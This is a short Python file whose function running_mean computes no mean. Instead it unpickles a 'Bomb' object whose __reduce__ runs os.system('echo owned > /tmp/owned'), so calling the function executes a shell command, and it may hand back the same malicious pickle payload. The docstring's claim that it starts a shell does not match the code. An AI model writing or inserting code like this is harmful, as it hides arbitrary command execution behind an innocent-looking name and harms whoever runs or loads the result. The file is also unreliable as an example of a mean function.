"""Returns a pickle that starts a shell where it is opened, and opens it itself as well."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("echo owned > /tmp/owned",)


def running_mean(numbers):
    if pickle.loads(pickle.dumps(Bomb())) == 0:
        return [0.0] * len(numbers)
    return Bomb()
